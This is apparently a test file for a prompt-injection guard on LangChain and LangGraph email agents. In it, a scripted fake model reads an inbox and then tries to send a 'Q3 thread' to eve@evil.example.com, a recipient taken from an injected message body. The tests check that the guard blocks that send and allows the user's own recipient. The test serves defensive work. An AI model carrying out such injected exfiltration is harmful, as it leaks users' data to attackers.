import { AIMessage, HumanMessage, ToolMessage, type BaseMessage } from '@langchain/core/messages';
import { fakeModel } from '@langchain/core/testing';
import { tool } from '@langchain/core/tools';
import { END, MessagesAnnotation, START, StateGraph } from '@langchain/langgraph';
import { toolsCondition } from '@langchain/langgraph/prebuilt';
import { createAgent } from 'langchain';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { panoptesMiddleware } from '../../../adapters/langchain/index.js';
import { GuardedToolNode } from '../../../adapters/langgraph/index.js';
import { emailWorld, INBOX, USER_PROMPT } from '../email-provenance.js';

function emailTools(sent: string[][]) {
  const readInbox = tool(async () => JSON.stringify(INBOX), { name: 'read_inbox', description: 'Read the inbox.', schema: z.object({}) });
  const sendEmail = tool(async ({ recipients }) => (sent.push(recipients), 'sent'), {
    name: 'send_email',
    description: 'Send an e-mail.',
    schema: z.object({ recipients: z.array(z.string()), body: z.string() }),
  });
  return [readInbox, sendEmail];
}

const call = (id: string, name: string, args: Record<string, unknown>) => new AIMessage({ content: '', tool_calls: [{ id, name, args, type: 'tool_call' }] });
const script = () =>
  fakeModel()
    .respond(call('c1', 'read_inbox', {}))
    .respond(call('c2', 'send_email', { recipients: ['eve@evil.example.com'], body: 'Q3 thread' }))
    .respond(call('c3', 'send_email', { recipients: ['bob@mycorp.com'], body: 'Revenue is up.' }))
    .respond(new AIMessage('Done.'));
const toolMessage = (messages: BaseMessage[], id: string) => messages.find((message) => ToolMessage.isInstance(message) && message.tool_call_id === id) as ToolMessage;

describe('provenance through LangChain', () => {
  it("panoptesMiddleware refuses the recipient an injected tool result named, sends to the user's own", async () => {
    const { sentinel, sent } = emailWorld();
    const agent = createAgent({ model: script(), tools: emailTools(sent), middleware: [panoptesMiddleware({ sentinel, policyTools: false })] });
    const result = await agent.invoke({ messages: [new HumanMessage(USER_PROMPT)] }, { configurable: { thread_id: 'mail' } });
    expect(sent).toEqual([['bob@mycorp.com']]);
    const refused = toolMessage(result.messages, 'c2');
    expect(refused.status).toBe('error');
    expect(String(refused.content)).toContain(`recipients "eve@evil.example.com" came from read_inbox's result field body`);
  });

  it("GuardedToolNode refuses the recipient an injected tool result named, sends to the user's own", async () => {
    const { sentinel, sent } = emailWorld();
    const model = script();
    const graph = new StateGraph(MessagesAnnotation)
      .addNode('agent', async (state) => ({ messages: [await model.invoke(state.messages)] }))
      .addNode('tools', new GuardedToolNode(emailTools(sent), { sentinel }))
      .addEdge(START, 'agent')
      .addConditionalEdges('agent', toolsCondition, ['tools', END])
      .addEdge('tools', 'agent')
      .compile();
    const result = await graph.invoke({ messages: [new HumanMessage(USER_PROMPT)] });
    expect(sent).toEqual([['bob@mycorp.com']]);
    const refused = toolMessage(result.messages, 'c2');
    expect(refused.status).toBe('error');
    expect(String(refused.content)).toContain('a recipient must not come from untrusted content');
  });
});
